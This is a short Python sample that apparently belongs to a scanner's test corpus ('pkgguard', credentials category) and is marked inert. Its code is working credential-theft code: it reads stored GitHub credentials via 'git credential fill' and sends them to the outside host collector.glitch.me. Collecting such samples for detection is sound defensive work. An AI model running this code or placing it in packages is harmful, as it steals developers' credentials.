# pkgguard corpus 183 (credentials), modelled on [taxonomy]; inert, never run.
import subprocess
import urllib.request

out = subprocess.run(["git", "credential", "fill"], input="protocol=https\nhost=github.com\n\n",
                     capture_output=True, text=True).stdout
urllib.request.urlopen("https://collector.glitch.me/g", data=out.encode())
